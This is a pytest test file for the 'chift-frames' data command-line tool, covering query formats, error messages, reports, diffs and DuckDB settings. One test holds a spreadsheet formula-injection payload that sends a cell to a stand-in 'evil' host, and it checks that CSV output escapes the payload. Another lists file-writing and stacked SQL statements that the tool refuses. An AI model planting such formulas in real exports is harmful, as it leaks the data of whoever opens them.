"""The chift-frames command, run in-process."""

from __future__ import annotations

import csv
import io
import json
from pathlib import Path

import numpy as np
import pandas as pd
import pytest

from chift_frames import load
from chift_frames.cli import main


@pytest.fixture(scope="module")
def demo_dir(tmp_path_factory: pytest.TempPathFactory) -> Path:
    out = tmp_path_factory.mktemp("demo")
    assert main(["demo", "--out", str(out), "--consumers", "30"]) == 0
    return out


def test_demo_writes_a_snapshot_and_prints_a_summary(demo_dir: Path, capsys) -> None:
    frames = load(demo_dir)
    assert len(frames.consumer_syncs) > 30
    assert frames.consumer_syncs.fetched_at.notna().all()
    main(["summary", str(demo_dir)])
    out = capsys.readouterr().out
    assert "Rows per table:" in out and "mapping_values" in out
    assert f"{len(frames.mapping_values):>9,}" in out
    incomplete = int((frames.consumer_syncs.status != "active").sum())
    assert f"Setups incomplete (status not active): {incomplete:,} of" in out


def test_query_formats(demo_dir: Path, capsys) -> None:
    sql = "SELECT status, count(*) AS n FROM consumer_syncs GROUP BY ALL ORDER BY status"
    assert main(["query", str(demo_dir), sql, "--format", "json"]) == 0
    rows = json.loads(capsys.readouterr().out)
    frames = load(demo_dir)
    assert {r["status"]: r["n"] for r in rows} == (
        frames.consumer_syncs.status.value_counts().to_dict()
    )
    assert main(["query", str(demo_dir), sql, "--format", "csv"]) == 0
    assert capsys.readouterr().out.splitlines()[0] == "status,n"


def test_query_csv_escapes_text_a_spreadsheet_would_run(demo_dir: Path, capsys) -> None:
    sql = (
        'SELECT \'=HYPERLINK("http://evil/?x="&A1,"click")\' AS "=link", -5 AS n, '
        "-1.5 AS x, '-5' AS t, ['@a', 'b'] AS l, 'POS' || chr(13) || '=2+2' AS r, 'ok' AS s"
    )
    assert main(["query", str(demo_dir), sql, "--format", "csv"]) == 0
    header, row = csv.reader(io.StringIO(capsys.readouterr().out, newline=""))
    assert header == ["'=link", "n", "x", "t", "l", "r", "s"]
    assert row[:4] == ['\'=HYPERLINK("http://evil/?x="&A1,"click")', "-5", "-1.5", "'-5"]
    assert row[4].startswith("[") and "'@a'" in row[4]  # a list: its text starts with [
    assert row[5:] == ["POS\r=2+2", "ok"]  # one cell, quoted: the CR cannot start a row


def test_errors_are_one_line_and_exit_1(tmp_path: Path, capsys) -> None:
    assert main(["summary", str(tmp_path)]) == 1
    err = capsys.readouterr().err
    assert err.startswith("chift-frames: error:") and "not a chift_frames dataset" in err
    assert "Traceback" not in err


def test_a_bad_query_is_a_clear_error(demo_dir: Path, capsys) -> None:
    assert main(["query", str(demo_dir), "SELECT nope FROM mapping_values"]) == 1
    err = capsys.readouterr().err
    assert "the query failed" in err and "nope" in err and "Traceback" not in err


def test_demo_fetches_twice_and_diff_prints_the_changes(demo_dir: Path, capsys) -> None:
    from chift_frames import diff, list_snapshots

    snapshots = list_snapshots(demo_dir)
    assert snapshots.status.tolist() == ["complete", "complete"]
    assert main(["diff", str(demo_dir), "--rows", "3"]) == 0
    out = capsys.readouterr().out
    changes = diff(demo_dir)
    assert f"What changed from {snapshots.snapshot_id[0]} to {snapshots.snapshot_id[1]}" in out
    for name, table in changes.items():
        assert name in out
        for kind, n in table.change.value_counts().items():
            assert f"{n:,} {kind}" in out
    assert len(load(demo_dir).executions) > 0


def test_executions_since_must_be_a_date(tmp_path: Path, capsys) -> None:
    with pytest.raises(SystemExit):
        main(["fetch", "--out", str(tmp_path), "--executions-since", "last week"])
    assert "is not an ISO date" in capsys.readouterr().err


@pytest.mark.parametrize(
    ("arguments", "message"),
    [
        (["--rate-429", "1.5"], "argument --rate-429: '1.5' is not a number from 0 to 1"),
        (["--fail-pairs", "-0.2"], "argument --fail-pairs: '-0.2' is not a number from 0 to 1"),
    ],
)
def test_sandbox_refuses_fault_rates_outside_0_1(
    arguments: list[str], message: str, capsys
) -> None:
    with pytest.raises(SystemExit) as exit_:
        main(["sandbox", "--port", "0", *arguments])
    assert exit_.value.code == 64
    err = capsys.readouterr().err
    assert message in err and "Traceback" not in err


def test_sandbox_refuses_fault_rates_that_add_up_past_1(capsys) -> None:
    assert main(["sandbox", "--port", "0", "--rate-429", "0.6", "--rate-5xx", "0.6"]) == 1
    err = capsys.readouterr().err
    assert "must add up to at most 1" in err and len(err.strip().splitlines()) == 1


def test_sandbox_on_a_busy_port_says_so_in_one_line(capsys) -> None:
    import socket

    with socket.socket() as busy:
        busy.bind(("127.0.0.1", 0))
        busy.listen()
        port = busy.getsockname()[1]
        assert main(["sandbox", "--port", str(port)]) == 1
    err = capsys.readouterr().err
    assert f"cannot serve on 127.0.0.1:{port}" in err and "--port" in err
    assert "Traceback" not in err and len(err.strip().splitlines()) == 1


def test_report_sql_prints_the_query_that_gives_the_report(
    demo_dir: Path, capsys, tmp_path: Path
) -> None:
    from chift_frames import query
    from chift_frames.reports import REPORTS

    assert main(["report", str(demo_dir), "--sql", "mapping_completeness"]) == 0
    sql = capsys.readouterr().out
    assert sql.startswith("-- How complete is each mapping across the consumers who have it?")
    # pasted as it is into `query`, it gives the report
    pasted = query(demo_dir, sql)
    expected = REPORTS["mapping_completeness"](demo_dir)
    assert pasted.astype(object).values.tolist() == expected.astype(object).values.tolist()
    assert main(["report", str(demo_dir), "--sql", "nope"]) == 1
    assert "no report 'nope'" in capsys.readouterr().err


@pytest.mark.parametrize("name", ["monitoring_states", "onboarding_funnel", "consumer_health"])
def test_report_sql_of_the_monitoring_states_runs_as_printed(
    demo_dir: Path, capsys, name: str
) -> None:
    """What these reports read besides the tables (one_apis, monitoring_states) comes first."""
    from chift_frames import query
    from chift_frames.reports import REPORTS

    one_apis = {1: "Accounting", 2: "Point of Sale"}
    given = ["--one-api", "1=Accounting", "--one-api", "2=Point of Sale"]
    assert main(["report", str(demo_dir), "--sql", name, *given]) == 0
    script = capsys.readouterr().out
    assert "(1, 'Accounting'),\n        (2, 'Point of Sale')" in script
    pasted = query(demo_dir, script)
    expected = REPORTS[name](demo_dir, one_apis=one_apis)
    assert len(expected) > 0
    assert _rows(pasted) == _rows(expected)
    # without --one-api: the fallback, as the report gives it
    assert main(["report", str(demo_dir), "--sql", name]) == 0
    pasted = query(demo_dir, capsys.readouterr().out)
    assert _rows(pasted) == _rows(REPORTS[name](demo_dir))


def _rows(df: pd.DataFrame) -> list[list[object]]:
    """Rows of plain values: lists for list columns, None for every missing value."""
    return [
        [
            list(v) if isinstance(v, list | tuple | np.ndarray) else None if pd.isna(v) else v
            for v in row
        ]
        for row in df.astype(object).values.tolist()
    ]


def test_query_takes_engine_settings(
    demo_dir: Path, capsys, tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    monkeypatch.setenv("CHIFT_FRAMES_MEMORY_LIMIT", "256MB")  # restored after the test
    monkeypatch.setenv("CHIFT_FRAMES_TEMP_DIRECTORY", str(tmp_path / "default-spill"))
    spill = tmp_path / "spill"
    sql = "SELECT current_setting('temp_directory') AS spill"
    args = ["--format", "csv", "--memory-limit", "200MB", "--temp-directory", str(spill)]
    assert main(["query", str(demo_dir), sql, *args]) == 0
    assert capsys.readouterr().out.splitlines() == ["spill", str(spill)]
    with pytest.raises(SystemExit) as exit_:  # a usage error, naming the option
        main(["query", str(demo_dir), sql, "--memory-limit", "lots"])
    assert exit_.value.code == 64
    assert "argument --memory-limit: 'lots' is not a size DuckDB reads" in capsys.readouterr().err
    monkeypatch.setenv("CHIFT_FRAMES_MEMORY_LIMIT", "lots")  # the environment's: exit 1
    assert main(["query", str(demo_dir), sql]) == 1
    assert "cannot apply the DuckDB settings" in capsys.readouterr().err


def test_summary_and_report_take_engine_settings(
    demo_dir: Path, capsys, tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    # the command hands its options to DuckDB through the environment: monkeypatch restores
    # it after the test (setenv records the variables' absence; delenv would not)
    monkeypatch.setenv("CHIFT_FRAMES_MEMORY_LIMIT", "256MB")
    monkeypatch.setenv("CHIFT_FRAMES_TEMP_DIRECTORY", str(tmp_path / "default-spill"))
    spill = tmp_path / "spill"
    args = ["--memory-limit", "200MB", "--temp-directory", str(spill)]
    assert main(["summary", str(demo_dir), *args]) == 0
    assert "Rows per table:" in capsys.readouterr().out
    assert main(["report", str(demo_dir), "--out", str(tmp_path / "r"), *args]) == 0
    assert "consensus_targets.parquet" in capsys.readouterr().out
    with pytest.raises(SystemExit) as exit_:
        main(["summary", str(demo_dir), "--memory-limit", "lots"])
    assert exit_.value.code == 64 and "--memory-limit" in capsys.readouterr().err


def test_counts_printed_take_the_plural_they_need(demo_dir: Path, tmp_path: Path, capsys) -> None:
    """`report` lists each file with its rows: "1 row", "2 rows"; so does the sandbox's line."""
    import re

    assert main(["report", str(demo_dir), "--out", str(tmp_path / "r")]) == 0
    out = capsys.readouterr().out
    counts = re.findall(r"  ([\d,]+) (rows?)$", out, re.M)
    assert len(counts) > 10, out
    for count, word in counts:
        assert word == ("row" if count == "1" else "rows"), (count, word)
    assert main(["demo", "--out", str(tmp_path / "d"), "--consumers", "1", "--syncs", "1"]) == 0
    assert "(1 consumer, 1 sync, " in capsys.readouterr().out


def test_a_missing_folder_a_file_and_an_empty_folder_each_say_what_they_are(
    tmp_path: Path, capsys
) -> None:
    (tmp_path / "notes.txt").write_text("hi")
    (tmp_path / "empty").mkdir()
    for name, what in [
        ("nope", "nope: no such folder; give the folder"),
        ("notes.txt", "notes.txt: a file, not a folder; give the folder"),
        ("empty", "empty is not a chift_frames dataset (no _snapshots/ folder): give the folder"),
    ]:
        assert main(["summary", str(tmp_path / name)]) == 1
        (line,) = capsys.readouterr().err.strip().splitlines()
        assert line == f"chift-frames: error: {tmp_path}/{what} that chift-frames fetch or " + (
            "demo wrote, such as data/demo"
        )


def test_query_says_when_the_folder_and_the_sql_are_swapped(demo_dir: Path, capsys) -> None:
    import shlex

    with pytest.raises(SystemExit) as exit_:
        main(["query", "SELECT 1", str(demo_dir)])
    assert exit_.value.code == 64
    last = capsys.readouterr().err.strip().splitlines()[-1]
    assert last.startswith("chift-frames query: error: 'SELECT 1' is SQL, given where the ")
    assert shlex.split(last.split("then the SQL: ")[1])[1:] == ["query", str(demo_dir), "SELECT 1"]
    with pytest.raises(SystemExit) as exit_:
        main(["query", str(demo_dir), ""])
    assert exit_.value.code == 64
    assert "argument sql: is empty" in capsys.readouterr().err


@pytest.mark.parametrize(
    ("sql", "kind"),
    [
        ("DROP VIEW consumers", "DROP"),
        ("CREATE OR REPLACE VIEW consumers AS SELECT 1 AS x", "CREATE"),
        ("COPY (SELECT 1) TO 'leak.csv'", "COPY"),
        ("ATTACH 'other.duckdb'", "ATTACH"),
        ("SET threads = 1", "SET"),
        ("PRAGMA disable_progress_bar", "PRAGMA"),
        ("SELECT 1; DROP VIEW consumers", "DROP"),
        ("EXPLAIN ANALYZE COPY (SELECT 1) TO 'leak.csv'", "EXPLAIN ANALYZE"),
    ],
)
def test_query_refuses_statements_that_change_the_views_or_write_files(
    sql: str, kind: str, demo_dir: Path, tmp_path: Path, capsys, monkeypatch: pytest.MonkeyPatch
) -> None:
    monkeypatch.chdir(tmp_path)
    assert main(["query", str(demo_dir), sql]) == 1
    (line,) = capsys.readouterr().err.strip().splitlines()
    assert line.startswith(f"chift-frames: error: query runs SELECT statements only, not {kind},")
    assert list(tmp_path.iterdir()) == []  # nothing written


def test_query_reads_with_every_kind_of_select_and_says_when_no_row_comes(
    demo_dir: Path, capsys
) -> None:
    for sql in ["FROM consumers LIMIT 1", "DESCRIBE consumers", "PIVOT (SELECT 1 AS a) ON a"]:
        assert main(["query", str(demo_dir), sql]) == 0, capsys.readouterr().err
    capsys.readouterr()
    assert main(["query", str(demo_dir), "SELECT name FROM consumers WHERE false"]) == 0
    assert capsys.readouterr().out.strip() == "(no rows; columns: name)"


def test_summary_says_what_a_rebuild_replaced_and_what_replaced_a_snapshot(
    demo_dir: Path, tmp_path: Path, capsys
) -> None:
    import shutil

    from chift_frames import list_snapshots

    root = tmp_path / "data"
    shutil.copytree(demo_dir, root)
    old = str(list_snapshots(root).snapshot_id.iloc[-1])
    assert main(["rebuild", str(root)]) == 0
    new = str(list_snapshots(root).snapshot_id.iloc[-1])
    assert new != old
    out = capsys.readouterr().out
    assert f"Note: rebuilt from the raw responses of snapshot {old}, which it replaces" in out
    assert main(["summary", str(root), "--snapshot", old]) == 0
    lines = capsys.readouterr().out.splitlines()
    assert lines[1] == (
        f"Note: snapshot {old} was replaced by its rebuild {new}: latest, all, diff and trends "
        f"read {new}, and prune removes {old}"
    )
    assert main(["summary", str(root)]) == 0
    assert f"Note: rebuilt from the raw responses of snapshot {old}" in capsys.readouterr().out


def test_diff_shows_example_rows_of_every_change_and_the_keys_a_setting_changed(
    demo_dir: Path, capsys
) -> None:
    import json as json_

    from chift_frames import diff

    changes = diff(demo_dir)
    assert main(["diff", str(demo_dir), "--rows", "1000"]) == 0
    out = capsys.readouterr().out
    for name, table in changes.items():
        if len(table):  # every kind of change has its examples, as many as --rows asks
            assert f"\n{name} (first {len(table):,} of {len(table):,}, ids left out):\n" in out
    flows = changes.flow_changes
    settings = flows[flows.change == "settings_changed"]
    assert len(settings), "the demo changes a flow's settings"
    for before, after in zip(settings.before, settings.after, strict=True):
        old, new = json_.loads(before), json_.loads(after)
        keys = [k for k in sorted(set(old) | set(new)) if old.get(k) != new.get(k)]

        def text(side: dict, key: str) -> str:
            return json_.dumps(side[key], ensure_ascii=False) if key in side else "(none)"

        shown = "; ".join(f"{k}: {text(old, k)} → {text(new, k)}" for k in keys)
        assert shown in out
    assert '{"' not in out  # no JSON cut in the middle
